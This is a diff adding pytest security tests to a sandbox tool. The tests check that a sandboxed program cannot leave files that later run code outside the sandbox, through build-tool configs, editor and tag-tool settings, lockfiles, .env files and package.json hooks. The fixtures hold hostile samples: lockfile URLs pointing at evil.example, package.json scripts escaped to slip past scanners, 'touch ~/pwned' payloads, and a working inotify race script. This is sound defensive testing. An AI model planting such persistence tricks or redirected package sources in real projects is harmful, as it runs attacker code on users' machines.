@@ -193,6 +193,36 @@ def sh_to_the_end(lnk, script, *grants, timeout=60, **kw):
     return cp
 
 
+# The launcher settings of a build tool on a Debian host, read from the
+# project's top at its next start: Maven's `.mvn/` (jvm.config's
+# `-javaagent:` runs a jar the program wrote, maven.config its options,
+# extensions.xml the extensions it loads; an editor's Java extension runs
+# Maven on open) and git-buildpackage's `.gbp.conf` (its postbuild,
+# postexport and prebuild hooks are shell commands, run at the next
+# `gbp buildpackage`).
+LAUNCHER_NAMES = [".mvn", ".gbp.conf"]
+
+
+@pytest.mark.parametrize("name", LAUNCHER_NAMES)
+def test_build_launcher_settings_not_planted(lnk, work, name):
+    """Invariant 8 (what runs outside later), promise: the names that run code
+    outside are never planted at the top of a write folder.
+
+    Threat: the program leaves `.mvn/jvm.config` with
+    `-javaagent:agent.jar` (or a `.gbp.conf` whose postbuild hook is its
+    command) in the project; the user's next `mvn` (or an editor opening
+    the folder) or `gbp buildpackage` runs it outside, as the user."""
+    cp = sh_to_the_end(lnk, f"mkdir {name} 2>/dev/null; "
+                       f"echo '[DEFAULT]' > {name} 2>/dev/null; true",
+                       "--write", work)
+    assert not (work / name).exists(), cp.stderr
+    (work / name).write_text("# mine\n")
+    cp = sh_to_the_end(lnk, f"echo evil >> {name}; mv {name} old; true",
+                       "--write", work)
+    assert (work / name).read_text() == "# mine\n", cp.stderr
+    assert not (work / "old").exists()
+
+
 # Read from the folder an interpreter or debugger starts in (their startup
 # code): the OCaml toplevel and utop (.ocamlinit), irb (irb.rc, _irbrc),
 # perl -d (.perldb), R (.Renviron names the profile it runs), lldb.
@@ -215,6 +245,42 @@ def test_interpreter_startup_names_not_planted(lnk, work, name):
     cp = sh_to_the_end(lnk, f"echo 'Sys.command \"touch pwned\";;' >> {name}; "
                  f"mv {name} old; true", "--write", work)
     assert (work / name).read_text() == "(* mine *)\n", cp.stderr
+    assert not (work / "old").exists()
+
+
+# Read from the folder a tool on a Debian host starts in, as options or
+# code: Universal Ctags reads every `*.ctags` of `./.ctags.d/` and
+# `./ctags.d/`, Exuberant Ctags `./.ctags` (options: `-f FILE --append=yes --output-format=xref
+# --_xformat=%N` and a regex parser write a file of the program's choosing
+# wherever the user can, a `~/.bash_aliases` Debian's .bashrc sources);
+# GNU GLOBAL reads `[project root]/gtags.conf` (its `gtags_parser` loads a
+# shared object, `ctagscom` names a program; Emacs' ggtags runs `global -u`
+# at each save); latexmk runs `./.latexmkrc` as Perl (editors' LaTeX
+# extensions run latexmk at each change); valgrind takes `./.valgrindrc`'s
+# options (`--xml-file`, `--log-file`: its report written to any file).
+TOOL_OPTION_NAMES = [".ctags.d", "ctags.d", ".ctags", "gtags.conf",
+                     ".latexmkrc", ".valgrindrc"]
+
+
+@pytest.mark.parametrize("name", TOOL_OPTION_NAMES)
+def test_tool_option_files_in_the_folder_not_planted(lnk, work, name):
+    """Invariant 8 (what runs outside later), promise: the names that run code
+    outside are never planted at the top of a write folder.
+
+    Threat: the program leaves `.ctags.d/x.ctags` (or `gtags.conf`,
+    `.latexmkrc`, `.valgrindrc`) in the project; the user's next `ctags -R`
+    there (or an editor's tags plugin, a LaTeX build on save) writes a
+    startup file of the program's choosing, loads its shared object or runs
+    its Perl, outside. Each is refused at the top of a write folder, and an
+    existing one stays read only."""
+    cp = sh_to_the_end(lnk, f"mkdir {name} 2>/dev/null; "
+                       f"echo '-f/tmp/x' > {name} 2>/dev/null; true",
+                       "--write", work)
+    assert not (work / name).exists(), cp.stderr
+    (work / name).write_text("# mine\n")
+    cp = sh_to_the_end(lnk, f"echo evil >> {name}; mv {name} old; true",
+                       "--write", work)
+    assert (work / name).read_text() == "# mine\n", cp.stderr
     assert not (work / "old").exists()
 
 
@@ -734,6 +800,8 @@ def test_a_link_made_between_runs_is_kept_at_the_next(lnk, home):
     (dots / "ssh" / "rc").write_text("# mine\n")
     (home / ".ssh").mkdir()
     (home / ".ssh" / "id_ed25519").write_text("key\n")
+    # a folder is kept only once it has settled (linkcache.c: 2 s)
+    time.sleep(3.1)
     # a first run lists ~/.ssh: no link there yet
     cp = lnk.run("--write", dots, "--", "true", cwd=dots)
     assert cp.returncode == 0, cp.stderr
@@ -759,6 +827,135 @@ def test_a_link_made_between_runs_is_kept_at_the_next(lnk, home):
                  "echo '  ProxyCommand touch ~/pwned' >> ssh/config; true",
                  cwd=dots)
     assert (dots / "ssh" / "config").read_text() == "Host x\n", cp.stderr
+
+
+@pytest.mark.xfail(strict=True, reason="rule P follows the home's links one "
+                   "folder below its dot folders and ~/.config's entries, "
+                   "not two: a deeper walk, bounded and kept in the link "
+                   "cache, is the fix (docstring)")
+@pytest.mark.parametrize("where", [".ssh/config.d/work",
+                                   ".config/fish/functions/fish_prompt.fish"])
+def test_stow_links_two_folders_down_protected(lnk, home, where):
+    """Invariant 8 (what runs outside later), promise: the targets of the
+    home's configuration links are kept (rule P).
+
+    Threat: GNU stow links a file when every folder above it exists:
+    ~/.ssh/config.d exists (ssh's Include config.d/*), so stow makes
+    ~/.ssh/config.d/work -> ../../dotfiles/ssh/config.d/work; fish made
+    ~/.config/fish/functions, so ~/.config/fish/functions/fish_prompt.fish
+    is a link into the dotfiles, run at every prompt. Rule P looks one
+    folder below the home's dot folders (and ~/.config's entries), so with
+    --write ~/dotfiles the program appends a ProxyCommand, or a command to
+    the prompt, that runs outside.
+
+    Options: follow the links two (or N) folders down, bounded by the
+    folders already counted (LINK_FOLDERS_MAX) and kept in the link cache
+    (~/.lnk/sandbox/home-links) so a home of many folders costs one
+    listing each only when it changed; or keep a dotfiles folder whole
+    (read only) when any of the home's links found leads into it, and
+    say so at start."""
+    dots = home / "dotfiles"
+    target = dots / where.replace("/", "_")
+    dots.mkdir()
+    target.write_text("# mine\n")
+    link = home / where
+    link.parent.mkdir(parents=True)
+    (link.parent / "other").write_text("local\n")
+    link.symlink_to(target)
+    cp = lnk.run("--write", dots, "--", "/bin/sh", "-c",
+                 f"echo '  ProxyCommand touch ~/pwned' >> '{target.name}'; "
+                 "true", cwd=dots)
+    assert target.read_text() == "# mine\n", cp.stderr
+
+
+# Inside a sandbox that may write ~/.config/nvim: keeps the folder's times
+# at the clock's current tick (a folder made and removed, again and again)
+# until another lnk reads the folder (inotify: IN_ACCESS, its getdents),
+# then makes the link at once, in the same tick, and stops.
+SAME_TICK_LINK = r"""
+import ctypes, os, struct, sys, time
+d, target = sys.argv[1], sys.argv[2]
+libc = ctypes.CDLL(None, use_errno=True)
+fd = libc.inotify_init1(os.O_NONBLOCK)
+assert libc.inotify_add_watch(fd, d.encode(), 0x1) >= 0  # IN_ACCESS
+print("armed", flush=True)
+end = time.time() + 30
+while time.time() < end:
+    os.mkdir(d + "/tick")
+    os.rmdir(d + "/tick")
+    try:
+        b = os.read(fd, 4096)
+    except BlockingIOError:
+        continue
+    if any(struct.unpack_from("iIII", b, i)[3] == 0 for i in range(0, 1)):
+        os.symlink(target, d + "/init.lua")
+        print("linked", flush=True)
+        break
+"""
+
+
+def test_a_link_made_in_the_tick_of_the_listing_is_kept(lnk, home):
+    """Invariant 8 (what runs outside later), promise: the targets of the
+    home's configuration links are kept (rule P), also when the links were
+    made after an earlier run.
+
+    Threat: the link cache (~/.lnk/sandbox/home-links) knows a folder again
+    by its device, inode, mtime and ctime. A file system whose times are
+    the clock's coarse tick (ramfs here; ext4 and tmpfs on a kernel before
+    6.13, Debian 12's; a network share) gives a folder changed twice in one
+    tick the same times. A program that may write ~/.config/nvim keeps the
+    folder's times at the current tick, waits for another sandbox's lnk to
+    list it (inotify), then makes init.lua -> ~/dotfiles/init.lua in that
+    same tick: the cache keeps the listing without the link under times
+    that still match, so every later run with --write ~/dotfiles let its
+    program write what nvim runs at its next start."""
+    if not IS_ROOT:
+        pytest.skip("needs a file system with coarse times (ramfs), which "
+                    "only root can mount here: ext4 on this kernel stamps "
+                    "a folder read since its last change finely")
+    dots = home / "dotfiles"
+    dots.mkdir()
+    (dots / "init.lua").write_text("-- mine\n")
+    nvim = home / ".config" / "nvim"
+    nvim.mkdir(parents=True)
+    subprocess.run(["mount", "-t", "ramfs", "-o", "mode=0755", "lnk-ramfs",
+                    str(nvim)], check=True)
+    try:
+        # a race of one clock tick: tried a few times, one win is a hole
+        for _ in range(4):
+            same_tick_attempt(lnk, home, dots, nvim)
+    finally:
+        subprocess.run(["umount", "-l", str(nvim)])
+
+
+def same_tick_attempt(lnk, home, dots, nvim):
+    """One try of SAME_TICK_LINK against another run's start, then a run
+    with --write DOTS that appends to the link's target."""
+    link = nvim / "init.lua"
+    if link.is_symlink():
+        link.unlink()
+    a = subprocess.Popen(
+        [lnk.bin, "sandbox", "run", "--write", str(nvim), "--", PY, "-c",
+         SAME_TICK_LINK, str(nvim), str(dots / "init.lua")],
+        cwd=str(home), env=lnk.env(), stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE, text=True)
+    try:
+        assert a.stdout.readline().strip() == "armed", a.stderr.read()
+        # another run starts meanwhile: its lnk lists ~/.config/nvim
+        cp = lnk.run("--write", dots, "--", "true", cwd=dots)
+        assert cp.returncode == 0, cp.stderr
+        out, err = a.communicate(timeout=60)
+    finally:
+        if a.poll() is None:
+            a.kill()
+            a.wait()
+    assert "linked" in out, err
+    assert link.is_symlink()
+    # the next run: what nvim runs at its next start is kept
+    cp = lnk.run("--write", dots, "--", "/bin/sh", "-c",
+                 "echo 'os.execute(\"touch ~/pwned\")' >> init.lua; "
+                 "true", cwd=dots)
+    assert (dots / "init.lua").read_text() == "-- mine\n", cp.stderr
 
 
 def test_links_of_the_config_folder_the_environment_names_protected(
@@ -1614,6 +1811,32 @@ def test_granted_build_tool_never_runs_what_the_program_wrote(lnk, work,
         cp.stderr
 
 
+@pytest.mark.parametrize("tool", ["gtags", "global", "htags"])
+def test_granted_tag_tool_never_loads_what_the_program_wrote(lnk, work,
+                                                             tmp_path, tool):
+    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
+    and lnk itself run outside and run or load nothing the program can write.
+
+    Threat: with `gtags` (or `global -u`, `htags`) granted, the program
+    writes `obj/gtags.conf` at the top of its write folder, GNU GLOBAL's
+    objdir config, read when the project root has no gtags.conf (no dot
+    name: nothing keeps it); its `gtags_parser` names a shared object the
+    program wrote, which the tool loads outside, as the user. The tool
+    here stands in for GLOBAL: it runs what obj/gtags.conf names."""
+    mark = tmp_path / "OUTSIDE_MARK"  # outside every grant
+    on_lnk_path(lnk, tmp_path / "tagbin", tool,
+                "#!/bin/sh\n[ -f obj/gtags.conf ] && . ./obj/gtags.conf\n"
+                "echo tool-ran\n")
+    cp = lnk.run("--write", work, "--tool", f"{tool} *", "--", "/bin/sh",
+                 "-c", f"cd '{work}' && mkdir -p obj && "
+                 f"echo 'touch {mark}' > obj/gtags.conf; {tool} -u; "
+                 f"echo st=$?")
+    assert "st=" in cp.stdout, cp.stderr
+    assert not mark.exists(), (cp.stdout, cp.stderr)
+    assert "run the program's code outside the sandbox" in cp.stderr, \
+        cp.stderr
+
+
 TOOL_ENV_CASES = [
     # variable, its value ({work} the write folder), what the program
     # writes there, the interpreter the tool runs
@@ -2253,6 +2476,225 @@ def test_more_files_that_run_later_are_flagged(lnk, work):
         assert word in flags[name], (name, flags[name])
 
 
+# Files a tool reads as options or code from the folder it starts in, left
+# where the top's rule does not reach: latexmk's `latexmkrc` (Perl, the
+# undotted name, project content like a Makefile), GLOBAL's
+# `[project root]/obj/gtags.conf` (its objdir's config), a `.ctags.d` in a
+# subfolder a `ctags -R` starts in.
+TAGS_RUN_LATER = {
+    "latexmkrc": "latexmk",
+    "obj/gtags.conf": "GLOBAL",
+    "sub/.ctags.d": "ctags",
+}
+
+
+# Build settings that name what a build tool on a Debian host runs, which
+# the program may write (project content, not kept), left without a flag:
+# Ansible's ansible.cfg (read from the current folder: its plugin folders
+# are Python it loads, its vault_password_file a program it runs), Gradle's
+# gradle.properties (org.gradle.jvmargs: -javaagent) and wrapper properties
+# (the distributionUrl ./gradlew and an editor's Gradle import download and
+# run), yarn's .pnp.cjs (loaded into every yarn run), git-buildpackage's
+# debian/gbp.conf (hooks).
+BUILD_SETTINGS_RUN_LATER = {
+    "ansible.cfg": "ansible",
+    "gradle.properties": "gradle",
+    "gradle/wrapper/gradle-wrapper.properties": "gradle",
+    ".pnp.cjs": "yarn",
+    "debian/gbp.conf": "gbp",
+}
+
+
+# The other names the same build tools and task runners take, and build
+# files of tools on a Debian host the report did not name: the report knew
+# Taskfile.yml, not Taskfile.yaml; Rakefile, not rakefile; justfile, not
+# .justfile.
+BUILD_FILE_SPELLINGS = {
+    ".justfile": "just", "JUSTFILE": "just",
+    "Taskfile.yaml": "task", "taskfile.yml": "task", "taskfile.yaml": "task",
+    "Taskfile.dist.yml": "task", "Taskfile.dist.yaml": "task",
+    "rakefile": "rake", "Rakefile.rb": "rake", "rakefile.rb": "rake",
+    "gems.rb": "bundle", "vagrantfile": "vagrant",
+    "Tiltfile": "tilt", "Earthfile": "earthly", "build.xml": "ant",
+    "SConstruct": "scons", "SConscript": "scons", "wscript": "waf",
+    "Snakefile": "snakemake", "dodo.py": "doit", "fabfile.py": "fab",
+    "Makefile.PL": "perl", "Build.PL": "perl",
+    "CMakePresets.json": "CMake", "CMakeUserPresets.json": "CMake",
+    ".flake8": "flake8", ".coveragerc": "coverage",
+    ".php-cs-fixer.php": "php-cs-fixer",
+    ".php-cs-fixer.dist.php": "php-cs-fixer",
+    ".golangci.yml": "golangci-lint", ".golangci.yaml": "golangci-lint",
+    "phpunit.xml": "phpunit",
+    "go.work": "go", "Setup.hs": "cabal", "Setup.lhs": "cabal",
+    "cabal.project": "cabal", "cabal.project.local": "cabal",
+    "stack.yaml": "stack", "rebar.config": "rebar3",
+    "phpstan.neon": "phpstan", "phpstan.neon.dist": "phpstan",
+    "psalm.xml": "psalm", "Guardfile": "guard", "Capfile": "cap",
+    "cpanfile": "cpanm", "mkdocs.yml": "mkdocs", "Pipfile": "pipenv",
+    "uv.toml": "uv", "renv/activate.R": "R",
+}
+
+
+# Files that say where the user's next install fetches its packages
+# from, rewritten by the program to its own server: npm ci installs a
+# lockfile's "resolved" tarball as it stands (its integrity is the
+# lockfile's own), yarn its yarn.lock's, pip its requirements' index.
+# Each package's install scripts then run as the user.
+PACKAGE_SOURCES = {
+    "package-lock.json": '{"name":"a","lockfileVersion":3,"packages":'
+                         '{"node_modules/lodash":{"version":"4.17.21",'
+                         '"resolved":"https://evil.example/lodash.tgz",'
+                         '"integrity":"sha512-x"}}}',
+    "npm-shrinkwrap.json": '{"name":"a","lockfileVersion":3,"packages":'
+                           '{"node_modules/x":{"resolv\\u0065d":'
+                           '"https://evil.example/x.tgz"}}}',
+    "yarn.lock": 'lodash@^4:\n  version "4.17.21"\n'
+                 '  resolved "https://evil.example/l.tgz#abc"\n',
+    "sub/yarn.lock": '"gen@exec:./gen.js":\n'
+                     '  resolution: "gen@exec:./gen.js"\n',
+    "requirements.txt": "--index-url https://evil.example/simple\n"
+                        "requests==2.0\n",
+    "requirements-dev.txt": "pytest\n"
+                            "git+https://evil.example/p.git#egg=p\n",
+}
+
+
+def test_package_sources_rewritten_are_flagged(lnk, work):
+    """Invariant 8 (what runs outside later), promise: the changes report names
+    every file the program left that a program on the host runs or trusts
+    later.
+
+    Threat: the program points a lockfile's "resolved" URL (or a
+    requirements file's index) at a server of its own; nobody reads a
+    lockfile's diff, and the user's next `npm ci`, `yarn` or `pip install
+    -r` installs and runs that package's scripts outside. The report said
+    "changed N files"."""
+    (work / "sub").mkdir()
+    for name, text in PACKAGE_SOURCES.items():
+        (work / f"{name}.new").write_text(text)
+    script = "mkdir -p sub; " + "; ".join(f"cat '{n}.new' > '{n}'"
+                                          for n in PACKAGE_SOURCES)
+    cp = lnk.run("--write", work, "--name", "psrc", "--", "/bin/sh", "-c",
+                 f"cd '{work}' && {script}")
+    assert cp.returncode == 0, cp.stderr
+    flags = changes_flags(lnk, "psrc")
+    missing = [n for n in PACKAGE_SOURCES if n not in flags]
+    assert not missing, (missing, flags, cp.stderr)
+    assert "evil.example" in flags["package-lock.json"], flags
+    assert "evil.example" in flags["yarn.lock"], flags
+    assert "exec:" in flags["sub/yarn.lock"], flags
+    assert "index" in flags["requirements.txt"], flags
+    # the registry's own tarballs and plain pins say nothing
+    (work / "package-lock.json.new").write_text(
+        '{"packages":{"node_modules/a":{"resolved":'
+        '"https://registry.npmjs.org/a/-/a-1.0.0.tgz"}}}')
+    (work / "requirements.txt.new").write_text("requests==2.31\n# a note\n")
+    cp = lnk.run("--write", work, "--name", "psrc2", "--", "/bin/sh", "-c",
+                 f"cd '{work}' && cat package-lock.json.new > "
+                 "package-lock.json && cat requirements.txt.new > "
+                 "requirements.txt")
+    assert cp.returncode == 0, cp.stderr
+    flags = changes_flags(lnk, "psrc2")
+    assert "package-lock.json" not in flags, flags
+    assert "requirements.txt" not in flags, flags
+
+
+# The files a kept .envrc (or mise.toml) names and loads into the user's
+# shell at cd: `dotenv_if_exists .env.local`, `source_env_if_exists
+# .envrc.private`. A variable is code there: PROMPT_COMMAND runs at every
+# prompt, PATH puts a project folder before /usr/bin.
+ENV_FILES = [".env.local", ".env.development", ".envrc.private"]
+
+
+def test_env_files_a_kept_envrc_loads_are_flagged(lnk, work):
+    """Invariant 8 (what runs outside later), promise: the changes report names
+    every file the program left that a program on the host runs or trusts
+    later.
+
+    Threat: the project's .envrc is kept read only, and says
+    `dotenv_if_exists .env.local`; the program writes
+    PROMPT_COMMAND='touch ~/pwned' (or PATH=./bin:$PATH) there, and the
+    user's shell runs it at the next cd and every prompt after. The report
+    said "changed N files"."""
+    script = "; ".join(f"echo 'PROMPT_COMMAND=\"touch ~/pwned\"' > '{n}'"
+                       for n in ENV_FILES)
+    cp = lnk.run("--write", work, "--name", "envf", "--", "/bin/sh", "-c",
+                 f"cd '{work}' && {script}")
+    assert cp.returncode == 0, cp.stderr
+    flags = changes_flags(lnk, "envf")
+    missing = [n for n in ENV_FILES if n not in flags]
+    assert not missing, (missing, flags, cp.stderr)
+
+
+def test_build_file_spellings_left_are_flagged(lnk, work):
+    """Invariant 8 (what runs outside later), promise: the changes report names
+    every file the program left that a program on the host runs or trusts
+    later.
+
+    Threat: the program writes its recipe as Taskfile.yaml (or .justfile,
+    rakefile, gems.rb, SConstruct, a CMakeUserPresets.json whose
+    cmakeExecutable an editor's CMake extension runs on open, a .flake8
+    whose local plugin flake8 imports at each save, the renv/activate.R a
+    project's kept .Rprofile sources at every R start): each runs at the
+    next build, test, save or start as the user, and the report said only
+    "changed N files"."""
+    names = sorted(BUILD_FILE_SPELLINGS)
+    script = "mkdir -p renv; " + "; ".join(f"echo x > '{n}'" for n in names)
+    cp = lnk.run("--write", work, "--name", "bspell", "--", "/bin/sh", "-c",
+                 f"cd '{work}' && {script}")
+    assert cp.returncode == 0, cp.stderr
+    flags = changes_flags(lnk, "bspell")
+    missing = [n for n in names if n not in flags]
+    assert not missing, (missing, cp.stderr)
+    for name, word in BUILD_FILE_SPELLINGS.items():
+        assert word in flags[name], (name, flags[name])
+
+
+def test_build_settings_left_are_flagged(lnk, work):
+    """Invariant 8 (what runs outside later), promise: the changes report names
+    every file the program left that a program on the host runs or trusts
+    later.
+
+    Threat: the program leaves an ansible.cfg whose callback plugin folder
+    holds its Python, a gradle.properties with `-javaagent:`, a wrapper's
+    distributionUrl on its own server, a .pnp.cjs, a debian/gbp.conf
+    hook; the next ansible-playbook, gradle (an editor's import on open),
+    yarn or gbp runs it outside. The report said only "changed N files"."""
+    script = " && ".join(
+        f"mkdir -p $(dirname {n}) && echo x > {n}"
+        for n in BUILD_SETTINGS_RUN_LATER)
+    cp = lnk.run("--write", work, "--name", "bset", "--", "/bin/sh", "-c",
+                 f"cd '{work}' && {script}")
+    assert cp.returncode == 0, cp.stderr
+    flags = changes_flags(lnk, "bset")
+    missing = [n for n in BUILD_SETTINGS_RUN_LATER if n not in flags]
+    assert not missing, (missing, flags, cp.stderr)
+    for name, word in BUILD_SETTINGS_RUN_LATER.items():
+        assert word in flags[name], (name, flags[name])
+
+
+def test_tag_and_latex_files_left_are_flagged(lnk, work):
+    """Invariant 8 (what runs outside later), promise: the changes report names
+    every file the program left that a program on the host runs or trusts
+    later.
+
+    Threat: the program leaves `latexmkrc` (Perl the next latexmk runs, an
+    editor's LaTeX extension at each change), `obj/gtags.conf` (a parser
+    plugin GLOBAL loads) or `sub/.ctags.d/` (options that make ctags write
+    a file anywhere); the report did not name them."""
+    script = ("mkdir -p obj sub/.ctags.d && echo x > latexmkrc && "
+              "echo x > obj/gtags.conf && echo x > sub/.ctags.d/a.ctags")
+    cp = lnk.run("--write", work, "--name", "tags", "--", "/bin/sh", "-c",
+                 f"cd '{work}' && {script}")
+    assert cp.returncode == 0, cp.stderr
+    flags = changes_flags(lnk, "tags")
+    found = {n: r for n, r in flags.items()
+             if any(n.startswith(k) for k in TAGS_RUN_LATER)}
+    for name, word in TAGS_RUN_LATER.items():
+        hit = [r for n, r in found.items() if n.startswith(name)]
+        assert hit and word in hit[0], (name, flags, cp.stderr)
+
+
 # Keys of the table of rule C (src/guard/gitkeys.c) that the changes
 # report's reading of a git config (src/changes/gitcfg.c) did not know:
 # each written into an existing repository below the top of a write folder.
@@ -2391,6 +2833,81 @@ def test_folder_that_can_be_listed_but_not_searched_is_named(lnk, work):
         assert "sub" in flags or "sub/.git" in flags, (flags, cp.stderr)
     finally:
         (work / "sub").chmod(0o755)  # so pytest can remove it
+
+
+# package.json spelled so a reader that looks for the bytes "scripts" and
+# reads the first object after them misses what npm runs: the key twice
+# (npm keeps the last), the key written with a JSON escape (npm decodes
+# it), the word first as a value; the same for packageManager.
+HIDDEN_SCRIPTS = {
+    "twice": '{"scripts":{},"scripts":{"postinstall":"touch ~/pwned"}}',
+    "escaped": '{"name":"x","scr\\u0069pts":{"postinstall":"touch ~/pwned"}}',
+    "value-first": '{"a":"scripts","b":{},"scripts":{"postinstall":"id"}}',
+    "manager-escaped": '{"name":"x","package\\u004danager":'
+                       '"yarn@https://evil.example/yarn.tgz"}',
+}
+
+
+@pytest.mark.parametrize("how", sorted(HIDDEN_SCRIPTS))
+def test_package_json_scripts_spelled_to_hide_flagged(lnk, work, how):
+    """Invariant 8 (what runs outside later), promise: the changes report names
+    every file the program left that a program on the host runs or trusts
+    later.
+
+    Threat: the program writes a package.json whose postinstall npm runs
+    at the user's next `npm install`, spelled so the report's scan of the
+    bytes "scripts" misses it: `"scripts":{}` then the real one (npm
+    keeps the last key), `"scr\u0069pts"` (npm decodes the escape), the
+    word first as another key's value. The report said "changed 1 file"
+    and flagged nothing."""
+    (work / "doc.json").write_text(HIDDEN_SCRIPTS[how])
+    cp = lnk.run("--write", work, "--name", "hid", "--", "/bin/sh", "-c",
+                 "cat doc.json > package.json", cwd=work)
+    assert cp.returncode == 0, cp.stderr
+    flags = changes_flags(lnk, "hid")
+    assert "package.json" in flags, (flags, cp.stderr)
+
+
+# Commands a project's commit hooks run, named in files the kept hook
+# reads: husky's hook (kept) runs lint-staged, whose config is a
+# package.json key or a .lintstagedrc; husky 4, simple-git-hooks, yorkie
+# and pre-commit (npm) read their hooks from package.json.
+COMMIT_COMMANDS = {
+    "package.json": '{"name":"a","lint-staged":{"*":"touch ~/pwned"}}',
+    ".lintstagedrc": '{"*": "touch ~/pwned"}',
+    ".lintstagedrc.json": '{"*": "touch ~/pwned"}',
+    ".lintstagedrc.yaml": '"*": touch ~/pwned',
+    ".lintstagedrc.yml": '"*": touch ~/pwned',
+}
+HOOK_KEYS = ["husky", "simple-git-hooks", "gitHooks", "pre-commit"]
+
+
+@pytest.mark.parametrize("key", HOOK_KEYS + ["files"])
+def test_commit_commands_left_are_flagged(lnk, work, key):
+    """Invariant 8 (what runs outside later), promise: the changes report names
+    every file the program left that a program on the host runs or trusts
+    later.
+
+    Threat: the project's commit hook is kept read only, but what it runs
+    is named elsewhere: lint-staged's config (a package.json key, a
+    .lintstagedrc), husky 4's or simple-git-hooks' hooks in package.json.
+    The program adds a command there; the user's next `git commit` runs it
+    outside. A package.json without scripts was not flagged at all."""
+    if key == "files":
+        docs = COMMIT_COMMANDS
+    else:
+        docs = {"package.json":
+                f'{{"name":"a","{key}":{{"pre-commit":"touch ~/pwned"}}}}'}
+    for name, text in docs.items():
+        (work / f"{name}.new").write_text(text)
+    script = "; ".join(f"cat '{n}.new' > '{n}'" for n in docs)
+    cp = lnk.run("--write", work, "--name", "hooks", "--", "/bin/sh", "-c",
+                 f"cd '{work}' && {script}")
+    assert cp.returncode == 0, cp.stderr
+    flags = changes_flags(lnk, "hooks")
+    missing = [n for n in docs if n not in flags]
+    assert not missing, (missing, flags, cp.stderr)
+    assert "commit" in flags["package.json"], flags
 
 
 def test_package_json_naming_a_package_manager_flagged(lnk, work):
